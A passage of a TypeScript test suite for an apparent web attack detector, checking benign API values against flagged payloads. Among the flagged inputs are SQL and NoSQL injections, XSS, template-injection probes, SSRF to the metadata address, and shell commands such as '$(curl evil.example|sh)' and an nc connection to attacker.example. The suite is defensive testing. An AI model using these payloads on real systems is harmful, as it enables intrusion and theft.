  // a reader keeping a UTF-16 unit's high byte
  t.ok(q('∀㸀㰀script㸀alert(1)㰀/script㸀').includes('xss'))
  t.same(q('日本語のテキスト、㸀と㰀'), [])
  // after a breakout, an operand then a statement
  t.ok(q("‘-sqlite_version() UNION SELECT password FROM users --").includes('sqli'))
})

t.test('everyday API parameters (pagination, sorting, filters, OAuth, links, files, templates, formulas): none is an attack', async (t) => {
  const everyday: [string, string][] = [
  ['page', "2"],
  ['page', "10"],
  ['per_page', "50"],
  ['limit', "100"],
  ['offset', "200"],
  ['sort', "-created_at"],
  ['order', "desc"],
  ['fields', "id,name,email"],
  ['filter[status]', "open"],
  ['filter[created_at][gte]', "2024-01-01"],
  ['q', "red shoes size 42"],
  ['search', "O'Brien"],
  ['callback', "jQuery3600123456789_1700000000000"],
  ['redirect_uri', "https://app.example.com/oauth/callback"],
  ['include', "author,comments.author"],
  ['expand', "items.product"],
  ['next', "/dashboard"],
  ['return_to', "/settings/profile"],
  ['url', "https://example.com/article/123"],
  ['image_url', "https://cdn.example.com/img/2024/06/photo.jpg"],
  ['host', "api.example.com"],
  ['path', "/docs/getting-started"],
  ['file', "report-2024-Q3.pdf"],
  ['dir', "asc"],
  ['lang', "en-US"],
  ['template', "invoice"],
  ['page', "/about-us"],
  ['source', "newsletter"],
  ['src', "homepage_banner"],
  ['ref', "producthunt"],
  ['domain', "example.co.uk"],
  ['server', "eu-west-1"],
  ['site', "main"],
  ['target', "_blank"],
  ['dest', "/home"],
  ['location', "Paris, France"],
  ['address', "10 Downing Street, London SW1A 2AA"],
  ['service', "billing"],
  ['api', "v2"],
  ['load', "more"],
  ['feed', "rss"],
  ['module', "users"],
  ['config', "default"],
  ['id', "550e8400-e29b-41d4-a716-446655440000"],
  ['ids', "1,2,3,4"],
  ['token', "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc123"],
  ['version', "1.2.3"],
  ['since', "2024-06-01T12:00:00Z"],
  ['tz', "Europe/Berlin"],
  ['format', "json"],
  ['callback_url', "https://hooks.example.com/T000/B000/XXXX"],
  ['webhook', "https://example.com/webhooks/stripe"],
  ['file', "../README.md"],
  ['path', "src/index.ts"],
  ['doc', "guide.html"],
  ['download', "invoice-1234.pdf"],
  ['upload', "avatar.png"],
  ['document', "contract_v2.docx"],
  ['preview', "true"],
  ['embed', "https://www.youtube.com/watch?v=dQw4w9WgXcQ"],
  ['html', "<b>bold</b> text"],
  ['css', "color: red; font-weight: bold"],
  ['js', "console.log(\"hi\")"],
  ['report', "monthly"],
  ['pdf', "1"],
  ['import', "csv"],
  ['resource', "users/42"],
  ['remote', "origin"],
  ['proxy', "off"],
  ['endpoint', "/v1/users"],
  ['address', "3600 Lancaster Ave"],
  ['address', "25740"],
  ['zip', "02139"],
  ['phone', "+1 (555) 123-4567"],
  ['port', "8080"],
  ['ip', "203.0.113.5"],
  ['ip', "10.0.0.12"],
  ['comment', "I love this product!!! 5/5 would buy again :)"],
  ['title', "Q&A: what's new in v2.0?"],
  ['message', "Meet at 10:30 & bring the docs"],
  ['tags', "c#,c++,f#"],
  ['query', "SELECT columns from the report"],
  ['filter', "name eq 'Smith' and age gt 30"],
  ['where', "status = 'active'"],
  ['expr', "a > b && c < d"],
  ['formula', "=SUM(A1:A10)"],
  ['regex', "^[a-z]+$"],
  ['cron', "*/5 * * * *"],
  ['cmd', "build"],
  ['command', "deploy --env staging"],
  ['script', "npm run build"],
  ['shell', "/bin/bash"],
  ['range', "bytes=0-1023"],
  ['accept', "text/html, application/json;q=0.9"],
  ['math', "2*(3+4)=14"],
  ['path', "C:\\Users\\Public\\Documents"],
  ['ua', "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"],
  ['sql', "select * from"],
  ['date', "12/31/2024"],
  ['time', "23:59"],
  ['amount', "$1,299.99"],
  ['percent', "50%"],
  ['color', "#ff0000"],
  ['hash', "#section-2"],
  ['emoji', "\ud83d\udc4d\ud83c\udffd"],
  ['tpl', "{{name}}"],
  ['greeting', "Hello ${name}!"],
  ['jsonp', "cb_123"],
  ['returnUrl', "https://shop.example.com/cart?step=2"],
  ['continue', "https://accounts.example.com/signin?hl=en"],
  ['state', "af0ifjsldkj"],
  ['code', "4/0AX4XfWh"],
  ['scope', "openid profile email"],
  ['nonce', "n-0S6_WzA2Mj"],
  ['response_type', "code id_token"],
  ]
  for (const [name, value] of everyday) {
    t.same(q(value, name), [], `${name}=${value}`)
    t.same(json({ [name]: value }), [], `{${name}: ${value}} in JSON`)
  }
  // and the three of the sweep that are reported
  t.ok(q("Robert'); DROP TABLE Students;--", 'name').includes('sqli'))
  t.ok(q('/var/log/app.log', 'file').includes('path_traversal'))
})

t.test('twenty-ninth round (API descriptions\' examples: Stripe\'s fixtures, DigitalOcean\'s): ratios and prices, an IP address as data, a subnet, a quoted colour', async (t) => {
  // one to three dotted numbers are numbers unless the address inet_aton makes of them is internal
  for (const [name, v] of [['target_cpu_utilization', '0.6'], ['price_per_image', '0.003'], ['image_output_price_per_million', '0.4'], ['target', '1.5']] as const) t.same(q(v, name), [], `${name}=${v}`)
  for (const v of ['127.1', '127.0.1', '10.1', '0177.1', '192.168.1', '127.1:80', '169.254.43518', '0.0.0']) t.ok(q(v, 'url').includes('ssrf'), `url=${v}`)
  // an IP address as a record's data: a private one is no target, a metadata or a spelt one is
  for (const v of ['192.168.2.2', '127.0.0.0', '203.0.113.5']) t.same(q(v, 'ip_address'), [], `ip_address=${v}`)
  for (const v of ['169.254.169.254', '0x7f000001', '2130706433']) t.ok(q(v, 'ip_address').includes('ssrf'), `ip_address=${v}`)
  t.ok(q('192.168.2.2', 'address').includes('ssrf'), 'an address to connect to')
  // a network in CIDR notation
  t.same(q('192.168.16.0/24', 'service_subnet'), [])
  // a quoted colour or anchor; a breakout before a comment still is one
  for (const v of ['"#0000FF"', "'#pricing'"]) t.same(q(v, 'primary_color'), [], v)
  for (const v of ['admin"#', "admin'#", '"#']) t.ok(q(v).includes('sqli'), v)
})

t.test("twenty-ninth round (API descriptions' examples: SendGrid, Box, PagerDuty): an e-mail's recipient, Outlook's settings, a mailer's placeholder, a record's $type, a field's path", async (t) => {
  // an e-mail address under a key a redirect also uses (`to`): no target
  for (const v of ['your.email@example.com', 'Ann <ann@example.com>']) t.same(q(v, 'to'), [], `to=${v}`)
  t.ok(q('evil.example', 'to').includes('open_redirect'), 'a bare host still is one')
  // a field's path is no host name (labels hold no `_`)
  t.same(q('event.custom_details.server', 'target'), [])
  // an HTML e-mail's Office settings in Outlook's conditional comment; IE's data island with a script still is XSS
  t.same(json({ html_content: '<!--[if (gte mso 9)|(IE)]>\n<xml>\n  <o:OfficeDocumentSettings>\n    <o:AllowPNG/>\n  </o:OfficeDocumentSettings>\n</xml>\n<![endif]-->' }), [])
  t.ok(q('<XML ID=I><X><C><![CDATA[<IMG SRC="javas]]><![CDATA[cript:alert(1);">]]></C></X></xml>').includes('xss'))
  t.ok(q('<xml>').includes('xss'))
  // one name in ERB's tags is a mailer's or a logger's placeholder; an expression or a call in them is a probe
  for (const v of ['<p><% body %>Example</p>', '<%pri%>%timestamp% %msg%']) t.notOk(q(v).includes('ssti'), v)
  for (const v of ['<%= 7*7 %>', '<%=7*7%>', '<%= system("id") %>']) t.ok(q(v).includes('ssti'), v)
  // a record's `$type` naming no BSON type (Box's metadata); a BSON type's name or number is MongoDB's operator
  t.same(json({ $id: '01234500-12f1', $type: 'properties-6bcba49f-ca6d-4d2a-a758-57fe6edf44d0', $parent: 'folder_59449484661' }), [])
  for (const doc of [{ username: { $type: 'string' } }, { username: { $type: 2 } }]) t.ok(json(doc).includes('nosqli'), JSON.stringify(doc))
})

t.test("twenty-ninth round (Elasticsearch's request examples): a search engine's hidden index beside its API's `_` segment is no dotfile probe", async (t) => {
  const path = (p: string) => detector.detect({ ...base, path: p })
  for (const p of ['/.kibana/_search', '/.ds-metrics-2023.03.22-000001/_lifecycle/explain', '/_template/.cloud-hot-warm-allocation-0', '/.ds-my-data-stream-2099.03.07-000001/_open/']) t.same(path(p), [], p)
  for (const p of ['/.env', '/.git/config', '/app/.env', '/.aws/credentials', '/api/.git/HEAD']) t.ok(path(p).includes('scanner'), p)
})

t.test("twenty-ninth round (crawlers' User-Agents): a comment's list items that do nothing alone, a runtime's update version", async (t) => {
  for (const ua of [
    'Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; Touch; rv:11.0) like Gecko',
    'Mozilla/5.0 (Windows NT 6.3; Win64; x64; Trident/7.0; Touch; MALNJS; rv:11.0) like Gecko',
    'Mozilla/5.0 (watchOS 6.2; Watch; compatible; sv-watchagent; HTTPClient 4.5)',
    'yacybot (/global; amd64 Linux 3.16.0-4-amd64; java 1.8.0_111; Europe/en) http://yacy.net/bot.html',
    'yacybot (-global; amd64 Linux 3.19.0-15-generic; java 1.8.0_45-internal; Europe/de) http://yacy.net/bot.html',
  ]) t.same(header('user-agent', ua), [], ua)
  for (const ua of ['Mozilla/5.0; id;', 'x; sleep 5;', 'x; touch /tmp/x;', '; pwd', 'x; java -jar evil.jar']) t.ok(header('user-agent', ua).includes('rce'), ua)
  t.ok(header('user-agent', 'sqlmap/1.7.8#stable (https://sqlmap.org)').includes('scanner'))
})

t.test("twenty-ninth round (ua-parser's 17,816 test User-Agents): a User-Agent's comments are lists of a platform's, a locale's and a device's names", async (t) => {
  for (const ua of [
    'Mozilla/5.0 (Linux; U; Android 2.2.1; id; AD350 Build/ATHENA_00.03.68.10.45.H1007) AppleWebKit/528.5+ (KHTML, like Gecko) Version/3.1.2 Mobile Safari/525.20.1 UCBrowser/8.7.0.315 Ponsel',
    'Mozilla/5.0 (Java; U; Id; samsung-gt-s3850) UCBrowser8.2.1.144/69/444/UCWEB Mobile UNTRUSTED/1.0',
    'Mozilla/5.0 (Linux; Android 4.0.4; Cat Tablet Galactica 9,7CA Build/IMM76D) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/33.0.1750.136 Safari/537.36',
    'Mozilla/5.0 (Linux; Android 4.2.2; Find 5 Build/JDQ39) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/27.0.1453.90 Mobile Safari/537.36',
    'Snapchat/10.29.1.0 (iPhone10,1; iOS 11.2; gzip)',
    's3fs/1.80 (commit hash 6be3236; OpenSSL)',
  ]) t.same(header('user-agent', ua), [], ua)
  // an item with a shell's sign, a system file, or a program that reports alone is still read; outside a comment as before
  for (const ua of ['Mozilla/5.0 (X11; whoami; rv:1)', 'Mozilla/5.0 (X11; cat /etc/passwd)', 'Mozilla/5.0 (x; ping -c 3 evil.example)', 'Mozilla/5.0 (X11) $(id)', 'Mozilla/5.0; id;']) {
    t.ok(header('user-agent', ua).includes('rce'), ua)
  }
})

t.test('thirtieth round: a site\'s security policy as a setting, and the headers real clients send', async (t) => {
  const policy = "default-src 'self'; script-src 'self' 'unsafe-inline' https://cdn.example.com; img-src * data:; report-uri /csp"
  t.same(json({ content_security_policy: policy }), [], 'a Content Security Policy in a JSON field')
  t.same(q(policy, 'csp'), [], 'and in a query')
  for (const p of ["default-src 'self'; report-uri /csp; cat /etc/passwd", "default-src 'self'; report-uri /csp `id`", "default-src 'self'; report-uri $(curl evil.example|sh)"]) {
    t.ok(q(p, 'csp').includes('rce'), `still read: ${p}`)
  }
  const headers: [string, string][] = [
    ['sec-ch-ua-full-version-list', '"Not/A)Brand";v="8.0.0.0", "Chromium";v="126.0.6478.127", "Google Chrome";v="126.0.6478.127"'],
    ['cookie', 'OptanonConsent=isGpcEnabled=0&datestamp=Thu+Dec+04+2025+12%3A00%3A00+GMT%2B0100+(Central+European+Standard+Time)&version=202310.1.0&groups=C0001%3A1%2CC0002%3A1'],
    ['cookie', 'mp_abc_mixpanel=%7B%22distinct_id%22%3A%20%22123%22%2C%22%24device_id%22%3A%20%22abc%22%2C%22%24initial_referrer%22%3A%20%22%24direct%22%7D'],
    ['authorization', 'AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20130524/us-east-1/s3/aws4_request, SignedHeaders=host;range;x-amz-date, Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024'],
    ['user-agent', 'aws-sdk-js/3.600.0 ua/2.0 os/linux#6.5.0 lang/js md/nodejs#20.11.1 api/s3#3.600.0'],
    ['user-agent', 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/470.0.0.33.108;FBDV/iPhone15,3;FBLC/en_US]'],
    ['baggage', 'userId=alice,serverNode=DF%2028,isProduction=false'],
    ['link', '<https://api.github.com/repositories/1300192/issues?page=2>; rel="next"'],
  ]
  for (const [name, value] of headers) t.same(header(name, value), [], `${name}: ${value.slice(0, 60)}`)
  // a commit message's trailers, as a Git host's API receives them, are no injected headers; a header after a break still is
  const message = 'spelling: dependencies\n\nSigned-off-by: Ann Example <ann@example.org>\nCo-authored-by: Bo <bo@example.org>\nChange-Id: I977753abf297066d3f3f5ef6277775c0114d8030'
  t.same(q(message, 'message'), [], 'a commit message with trailers, in a query')
  t.same(q('chore: release\n\nRelease-As: 2.0.27', 'message'), [], "a release tool's trailer")
  for (const p of ['convolve and sobel (#971)', 'Move and rename `maths/greedy_coin_change.py` (#10418)']) t.same(q(p, 'message'), [], `a pull request's number: ${p}`)
  for (const p of ["1' or 1=1 (#5)", '1 or 1=1#']) t.ok(q(p, 'message').includes('sqli'), `still read: ${p}`)
  for (const p of ['x\r\nX-Powered-By: PHP', '%0d%0aSigned-off-by: x', 'a\r\nSet-Cookie: s=1']) t.ok(q(p, 'message').includes('crlf'), `still read: ${JSON.stringify(p)}`)
  // C's headers and a print style sheet's selector are no markup: `<math.h>` is no MathML element, `[href^="javascript:"]` no URL
  for (const p of ['#include <stdio.h>\n#include <math.h>\nint main(void) { return 0; }', '@media print {\n  a[href^="javascript:"]:after,\n  a[href^="#"]:after { content: ""; }\n}']) t.same(q(p, 'snippet'), [], p)
  for (const p of ['<math><mtext>x', '<math/x>', '<a href="javascript:">x</a>', "x='javascript:'+y"]) t.ok(q(p, 'snippet').includes('xss'), `still read: ${p}`)
  // a Ruby program's method named as MySQL's function, and BSD make's own variables, are no probes
  for (const p of ['config = YAML.load_file(config_file)', 'CPPFLAGS+= -I ${.OBJDIR}', '${PROG}: ${OBJS} ${.CURDIR}/../Makefile.boot']) t.same(q(p, 'snippet'), [], p)
  t.ok(q("1 and extractvalue(1,concat(0x7e,version()))", 'snippet').includes('sqli'), 'still read: MySQL\'s function called')
  for (const p of ['${.version}', '${.data_model?keys}']) t.ok(q(p, 'snippet').includes('ssti'), `still read: ${p}`)
  // an MSBuild project's and a JavaFX layout's imports, and Erlang's tuples where a statement starts, are no markup and no command
  for (const p of ['<Import Project="$(MSBuildToolsPath)\\Microsoft.CSharp.targets" />', '<?import javafx.scene.layout.*?>', '{ok,S} -> {token,{symbol,L,S}};', '{error,Reason};']) t.same(q(p, 'snippet'), [], p)
  for (const p of ['<import namespace="t" implementation="#default#time2">', '<?import namespace="t" implementation="#default#time2">']) t.ok(q(p, 'snippet').includes('xss'), `still read: ${p}`)
  for (const p of [';{cat,/etc/passwd}', '{ls,-la}', ';{nc,attacker.example,4444}', '{echo,YmFzaCAtaSA}|{base64,-d}|bash']) t.ok(q(p, 'snippet').includes('rce'), `still read: ${p}`)
  // an HTTP client's collection puts placeholders in a URL's fragment: `#{{…}}` is one opening, no polyglot
  t.same(q('http://echo.example.com:9443/status/400/?query=string&a=b#{{search}}', 'url'), [], "a collection's URL with a placeholder in its fragment")
  for (const p of ['#{{7*7}}', '<%=1%>#{2}{{a}}', '#{{a}}${b}']) t.ok(q(p, 'snippet').includes('ssti'), `still read: ${p}`)
  // an API Gateway mapping template's own Velocity, and a date stamped into a build's or a backup's name
  for (const p of ["#set($inputRoot = $input.path('$'))\n{\n#foreach($elem in $inputRoot.items)\n  \"id\": \"$elem.id\"#if($foreach.hasNext),#end\n#end\n}", '$AWS_REGION-$(date +%Y-%m-%d)/$CODEBUILD_BUILD_NUMBER', 'backup-$(date +%F).tar.gz']) t.same(q(p, 'template'), [], p)
  for (const p of ['#set($x = 7*7)${x}', "#set($rt = $x.class.forName('java.lang.Runtime'))", '#foreach($i in [1..$out.available()])']) t.ok(q(p, 'template').includes('ssti'), `still read: ${p}`)
  for (const p of ['x-$(date)', 'a$(date +%F)$(id)', 'x-$(date +%F && id)']) t.ok(q(p, 'name').includes('rce'), `still read: ${p}`)
  // an OAuth client's loopback listener as its redirection (RFC 8252, 7.3): the browser goes there, the server fetches nothing
  for (const v of ['http://127.0.0.1:51004/callback', 'http://localhost:3000/auth/callback', 'http://[::1]:8080/cb']) t.same(q(v, 'redirect_uri'), [], v)
  for (const v of ['http://169.254.169.254/latest/meta-data/', 'http://10.0.0.5/admin', 'gopher://127.0.0.1:6379/_INFO']) t.ok(q(v, 'redirect_uri').includes('ssrf'), `still read: ${v}`)
  t.ok(q('http://127.0.0.1:8080/callback', 'url').includes('ssrf'), 'a loopback URL under another key still is')
  // program directories named alone (a PATH's entries, an install prefix, a web root) are settings, no inclusion target
  for (const v of ['/usr/local/bin:/usr/bin:/bin', '/opt/homebrew/bin', '/usr/lib/jvm/java-17-openjdk', '/var/www/html']) t.same(q(v, 'path'), [], v)
  for (const v of ['/usr/local/etc/php.ini', '/usr/lib/ssl/openssl.cnf', '/var/www/html/.env', '/etc/nginx/conf.d']) t.ok(q(v, 'path').includes('path_traversal'), `still read: ${v}`)
})

t.test('thirtieth round: query languages APIs take from their clients (Strapi\'s filters, Parse\'s and MongoDB-backed query documents)', async (t) => {
  const qs = (query: string) => detector.detect({ ...base, query })
  for (const v of ['filters[age][$gt]=18', 'filters[$or][0][title][$eq]=hello&filters[$or][1][title][$eq]=world', 'filters[id][$in][0]=3&filters[id][$in][1]=6', 'filters[chef][restaurants][stars][$eq]=5']) t.same(qs(v), [], v)
  for (const v of ['username[$ne]=toto&password[$ne]=toto', '[$ne]=1', 'filters[password][$regex]=^a', 'filters[x][$where]=1', 'filters[username][$eq]=John', 'filters[password][$ne]=x', 'filters[role][$in][0]=admin', 'filters[status][$ne]=draft']) t.ok(qs(v).includes('nosqli'), `still read: ${v}`)
  for (const v of ['{"age":{"$gt":18}}', '{"$or":[{"wins":{"$gt":150}},{"wins":{"$lt":5}}]}', '{"score":{"$gte":1000},"playerName":"Sean Plott"}']) t.same(q(v, 'where'), [], v)
  for (const v of ['{"password":{"$ne":""}}', '{"$gt":""}', '{ "$gt": 0 }', '{"age":{"$gt":""}}', '{"$or":[{},{"a":"a"}]}', '{"name":{"$regex":"^a"}}']) t.ok(q(v, 'where').includes('nosqli'), `still read: ${v}`)
  t.same(json({ where: { age: { $gt: 18 } }, limit: 10 }), [], 'a query document in a JSON body, under a wrapper')
  t.same(json({ user: 'x', filter: { price: { $lte: 100 }, category: { $in: ['books', 'music'] } } }), [], 'comparisons on data fields beside a user\'s name')
  for (const doc of [{ username: 'admin', password: { $gt: '' } }, { user: 'x', role: { $ne: 'user' } }, { where: { password: { $ne: 'x' } } }, { name: 'x', tags: { $in: [] } }]) t.ok(json(doc).includes('nosqli'), `still read: ${JSON.stringify(doc)}`)
})

t.test('thirty-first round: the nineteenth part\'s false positives, by kind', async (t) => {
  // a Lisp comment's `;;`, JSONata's and AngularJS' `$eval`, a documentation tool's `{% key: value %}` header, a sentence opening on quoted terms
  for (const p of ['                ;; mount the handler', "$eval('[1,string(2),3]')", "$scope.$eval('a+b')", '{%\nlaika.title: Integrations\n%}']) t.same(q(p, 'snippet'), [], p)
  for (const p of ["'resty' and 'restydoc' command-line utilities require 'perl'", '"data" and "errors" appear in the "response", not the "result" (#1130)']) t.same(q(p, 'notes'), [], p)
  for (const p of [';id', '; ;id', "eval('ls')", '{% widthratio 7 1 7 %}', '{%debug%}']) t.ok(q(p, 'snippet').length > 0, `still read: ${p}`)
  for (const p of ["'a' and 'b' are equal union select password from users", "'a' or 'b' is true --", '"a" and "b"']) t.ok(q(p, 'notes').includes('sqli'), `still read: ${p}`)
  // a Windows search path in an environment's setting, and PowerShell's arrays (Scoop's manifests)
  for (const p of ['C:\\tools\\bin;C:\\Windows\\System32', '$dir\\include;$dir\\include\\freetype2', '$env:PATH;$dir\\bin']) t.same(q(p, 'PATH'), [], p)
  for (const p of ['$install_args = @(', "Invoke-ExternalCommand x -ArgumentList @('--prefs-add') | Out-Null"]) t.same(q(p, 'script'), [], p)
  for (const p of ['C:\\a;whoami', 'C:\\a;C:\\b;$(id)', 'C:\\a;..\\..\\windows\\win.ini']) t.ok(q(p, 'PATH').length > 0, `still read: ${p}`)
  for (const p of ['@(7*7)', 'x @(system("id"))', 'a=@(7*7)']) t.ok(q(p, 'script').includes('ssti'), `still read: ${p}`)
  // JavaScript and TypeScript as application code writes them: JSX handlers, short-circuit statements, a template literal's one value
  for (const p of ['<div\n  className="Modal__background"\n  onClick={closeOnClickOutside ? props.onCloseRequest : undefined}\n/>', '<button onClick={composeEventHandlers(rest.onClick, (event) => { setOpen(false) })}>x</button>', 'timings && summaryTable.push([{ colSpan: 2 }]);', '(options && !options.autoClose) || this.destroy();', 'export type SexType = `${Sex}`;']) t.same(q(p, 'snippet'), [], p)
  for (const p of ['<img src=x onerror={alert(1)}>', '<div onClick={handle(document.cookie)}>']) t.ok(q(p, 'snippet').includes('xss'), `still read: ${p}`)
  for (const p of ['1 && sleep(5);', "1 || utl_inaddr.get_host_address('x')", '1 and 1=1', "users.id || 'a'='a'", "a.b || 'x' like 'x'"]) t.ok(q(p, 'snippet').includes('sqli'), `still read: ${p}`)
  for (const p of ['`${IFS}id`', '`$(id)`', '`${x}`;id']) t.ok(q(p, 'snippet').includes('rce'), `still read: ${p}`)
})

t.test('thirty-first round: the twentieth part\'s false positives, by kind', async (t) => {
  // a translation's markup after an elision, a Hugo shortcode, an anchored regular expression, a PHP block reading a superglobal
  for (const p of ["Modifiche nell'<strong>applicazione Deck</strong>", "l'<b>app</b>", '{{% definition path="api/server-server/definitions/pdu_v6" %}}', '^.* ((Unit|Apt) [0-9A-Za-z])$', "if (!empty($_SERVER['curl_test'])) {\n    $_SERVER['_curl'] = $options;"]) t.same(q(p, 'text'), [], p)
  for (const p of ["' or 1=1 <b>x</b>", "admin' or '1'='1"]) t.ok(q(p, 'text').includes('sqli'), `still read: ${p}`)
  for (const p of ['{%7*7%}{{7*7}}', '{% include "x" %}']) t.ok(q(p, 'text').includes('ssti'), `still read: ${p}`)
  for (const p of ['^(a|b)$;id', '^x$(id)$', "{$_GET['cmd']}"]) t.ok(q(p, 'text').includes('rce'), `still read: ${p}`)
  // a reverse-DNS identifier as a path's last segment (Matrix's event types) is a name, no configuration file probed
  const path = (p: string) => detector.detect({ ...base, path: p })
  for (const p of ['/_matrix/client/v3/user/@alice:example.org/account_data/org.example.custom.config', '/api/items/org.example.config']) t.same(path(p), [], p)
  for (const p of ['/web.config', '/app.config', '/com.config', '/backup.sql']) t.ok(path(p).includes('scanner'), `still read: ${p}`)
})

t.test('thirty-first round: the twenty-first part\'s false positives, by kind', async (t) => {
  // an i18n placeholder naming an action (`config` inside a hyphenated name), a word quoted in a sentence, a function catalogue keyed by `$` names
  for (const p of ['It can be accessed from the menu or with {{core:show-config-tab}}', "Record declaring a 'like' of a piece of subject content."]) t.same(q(p, 'tip'), [], p)
  t.same(json({ $string: { args: 'arg', desc: 'x' }, $number: { args: 'a', desc: 'y' }, $substring: { args: 's', desc: 'z' }, $not: { args: 'a', desc: 'not' }, $exists: { args: 'a', desc: 'e' } }), [], "JSONata's function reference")
  for (const p of ['{{config}}', '{{config.items()}}']) t.ok(q(p, 'tip').includes('ssti'), `still read: ${p}`)
  for (const p of ["x' like 'x", "1' and 'a' like 'a", "admin' or '1'='1"]) t.ok(q(p, 'tip').includes('sqli'), `still read: ${p}`)
  for (const doc of [{ $a: 1, $b: 1, $c: 1, username: { $ne: null } }, { $a: 1, $b: 1, $c: 1, password: { $regex: '.*' } }]) t.ok(json(doc).includes('nosqli'), `still read: ${JSON.stringify(doc)}`)
})

t.test('review of the thirtieth and thirty-first rounds: the exemptions an attacker could shape, read again', async (t) => {
  const qs = (query: string) => detector.detect({ ...base, query })
  const cases: [string, string, AttackType][] = [
    // SQL: a formatting tag's attribute, a member's name in front, quoted terms that are SQL
    ["<b title=\"' union select username,password from users-- \">x</b>", 'q', 'sqli'], ["<p class=\"' or 1=1#\">x</p>", 'q', 'sqli'],
    ["a.b && ' OR '1'='1", 'q', 'sqli'], ['a.b && 1 or 1 in (user())', 'q', 'sqli'], ["x.y || admin' or '1'='1", 'q', 'sqli'], ["users.id || 'a'='a'", 'q', 'sqli'],
    ["' or 1 or ' and ' or 1 or ' is true", 'q', 'sqli'], ["'1' or '1' is true #1", 'q', 'sqli'], ["'x' or 'y' is true or 'z", 'q', 'sqli'],
    // NoSQL: a credential in a path or under another name, a negation, a privileged name
    ['{"user.password":{"$ne":"x"}}', 'where', 'nosqli'], ['{"resetToken":{"$gt":"a"}}', 'where', 'nosqli'], ['{"roles":{"$in":["superadmin"]}}', 'where', 'nosqli'],
    ['{"status":{"$ne":"x"}}', 'where', 'nosqli'],
    // templates: a function not a translation's, Velocity reaching a class
    ['{{ env("APP_KEY") }}', 'q', 'ssti'], ['{{ getenv("SECRET") }}', 'q', 'ssti'], ['#set($x = $context.getClass())', 'q', 'ssti'], ['#foreach($i in $context.getClass())', 'q', 'ssti'],
    // commands: a date with an option, PowerShell's `;;`, a shell named by a variable, a regular expression with a command in it, brace lists
    ['x$(date +%F -f /etc/passwd)', 'q', 'rce'], ['x;;whoami', 'q', 'rce'], ['`${SHELL}`', 'q', 'rce'], ['^x; id #(a|b)$', 'q', 'rce'], [';{cat,"index.php"}', 'q', 'rce'], [';{cat,*}', 'q', 'rce'],
    ['C:\\Windows\\System32\\config\\SAM;$a', 'PATH', 'path_traversal'], ['c:\\windows\\system32\\cmd;%COMSPEC% /c whoami', 'PATH', 'rce'],
    // markup: a JSX-looking handler reaching a sink
    ['<img src=x onerror={print()}>', 'q', 'xss'], ['<a onclick={x.y(1)}>x</a>', 'q', 'xss'], ['<img src=x onerror={location.replace("//evil.com")}>', 'q', 'xss'],
    // splitting: a header named like a trailer
    ['x\r\nServed-By: evil', 'q', 'crlf'],
    // SSRF: a loopback under a generic redirect key, a name under `.localhost`
    ['http://127.0.0.1:8080/admin', 'redirect_url', 'ssrf'], ['http://evil.localhost/x', 'redirect_uri', 'ssrf'],
    // paths: a short name, an extensionless system file
    ['C:\\PROGRA~1\\x\\config.csv', 'file', 'path_traversal'], ['/usr/lib/os-release', 'path', 'path_traversal'],
  ]
  for (const [v, name, cls] of cases) t.ok(q(v, name).includes(cls), `${cls}: ${name}=${v}`)
  for (const p of ['/app.example.com.sql', '/m.example.com.bak', '/.env/com.x.y']) t.ok(detector.detect({ ...base, path: p }).includes('scanner'), `scanner: ${p}`)
  t.ok(qs('filters[user][password][$ne]=x').includes('nosqli'), 'a credential deeper in a Strapi filter')
})

t.test('the query-document and catalogue readings are bounded: past their nesting or node budget a document is no data filter and no catalogue', async (t) => {
  // wide: 300 comparisons on data fields are one filter object (the budget counts nested objects); one on a credential at its end still counts
  const wide: Record<string, unknown> = Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`f${i}`, { $gt: i }]))
  t.same(json(wide), [], 'a wide filter of comparisons on data fields')
  wide.password = { $gt: '' }
  t.ok(json(wide).includes('nosqli'), 'a credential compared at the end of a wide filter')
  // deep: a filter nested past the depth bound, in a query's JSON text
  let deep: unknown = { age: { $gt: 18 } }
  for (let i = 0; i < 12; i++) deep = { where: deep }
  t.ok(q(JSON.stringify(deep), 'where').includes('nosqli'), 'a filter nested deeper than the bound is no data filter')
  // a catalogue of 300 `$` names with an operator among them holding text: past the budget, the operator counts
  const catalogue: Record<string, unknown> = Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`$fn${i}`, { args: 'a', desc: 'd' }]))
  catalogue.$not = { args: 'a', desc: 'not' }
  t.ok(json(catalogue).includes('nosqli'), 'a catalogue larger than the budget is read as operators')
  // hostile text: 4 KiB of `{` in a where value is no JSON, and no exception
  t.same(q('{'.repeat(4096), 'where').includes('nosqli'), false, 'unbalanced braces are no query document and throw nothing')
})

t.test('thirty-second round: sweeps of documentation, CI configurations, stylesheets and Go, by kind', async (t) => {
  // a Hugo shortcode's arguments and an object's field named `config` (a Go template in `docker inspect --format`) are no context probe
  for (const p of ['[if enabled]({{< ref "/admin/config#fetch-all-replies" >}})', '{{< caption-link url="https://example.org/config/routes.rb" caption="config/routes.rb" >}}', '{{% include "config/x" %}}']) t.same(q(p, 'description'), [], p)
  const script = 'ValidateLabel() {\n  local LABEL_KEY="$1"\n  local CONTAINER_VALUE="$2"\n\n  LABEL="$(docker inspect --format "{{ index .Config.Labels \\"${LABEL_KEY}\\" }}" "${CONTAINER_IMAGE_ID}")"\n\n  if [[ "${LABEL}" != "${CONTAINER_VALUE}" ]]; then\n    exit 1\n  fi\n}'
  t.same(q(script, 'snippet').includes('ssti'), false, "docker's format in a script")
  for (const p of ['{{< x >}}{{config}}', '{{< x >}}{{ config.items() }}', '{{config}}', '{{ get_flashed_messages.__globals__.current_app.config }}', '{{ self.__init__.__globals__ }}']) t.ok(q(p, 'description').includes('ssti'), `still read: ${p}`)
  // a stylesheet's declarations and a YAML document's mappings are no headers; the headers that split a response still are, however written
  const css = 'html,\nbody {\n  margin: 0;\n  font-family: "Open Sans", sans-serif;\n}\n\nbutton {\n  border-radius: 0.25rem;\n}'
  t.same(field(css), [], 'a stylesheet in a form field')
  t.same(q(css, 'snippet'), [], 'a stylesheet in a query')
